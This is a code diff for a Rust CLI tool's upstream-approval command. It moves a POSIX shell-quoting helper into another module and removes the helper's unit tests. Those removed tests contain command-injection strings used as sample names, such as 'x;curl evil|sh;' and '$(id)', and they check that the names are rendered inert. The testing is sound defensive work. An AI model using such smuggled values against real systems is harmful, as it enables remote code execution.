@@ -332,22 +332,12 @@ async fn diff(ctx: &Context, name: &str, tool: Option<&str>, json_out: bool) -> 
             output::line(&output::escape(&format!(
                 "  gatehouse upstreams approve --sha256 {} {} -- {}",
                 pending.definition.sha256,
-                shell_word(name),
-                shell_word(&pin.tool),
+                output::shell_word(name),
+                output::shell_word(&pin.tool),
             )));
         }
     }
     Ok(())
-}
-
-/// `text` as one word for a POSIX shell: as it is when it holds nothing a
-/// shell reads specially, else in single quotes.
-fn shell_word(text: &str) -> String {
-    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '/' | ':');
-    if !text.is_empty() && text.chars().all(plain) {
-        return text.to_string();
-    }
-    format!("'{}'", text.replace('\'', "'\\''"))
 }
 
 async fn approve(
@@ -455,27 +445,5 @@ pub async fn run(ctx: &Context, command: UpstreamsCommand) -> anyhow::Result<()>
             sha256,
             json,
         } => approve(ctx, &name, tool.as_deref(), sha256.as_deref(), json.json).await,
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::shell_word;
-
-    #[test]
-    fn a_name_chosen_by_an_upstream_is_one_inert_shell_word() {
-        assert_eq!(shell_word("read_text_file"), "read_text_file");
-        assert_eq!(shell_word("x;curl evil|sh;"), "'x;curl evil|sh;'");
-        assert_eq!(shell_word("it's $(id)"), "'it'\\''s $(id)'");
-        assert_eq!(shell_word(""), "''");
-        // What a shell makes of it is the name itself.
-        for name in ["x;curl evil|sh;", "it's $(id) `id`", "a b\\c", "-rf"] {
-            let out = std::process::Command::new("sh")
-                .arg("-c")
-                .arg(format!("printf %s {}", shell_word(name)))
-                .output()
-                .unwrap();
-            assert_eq!(String::from_utf8_lossy(&out.stdout), name);
-        }
     }
 }
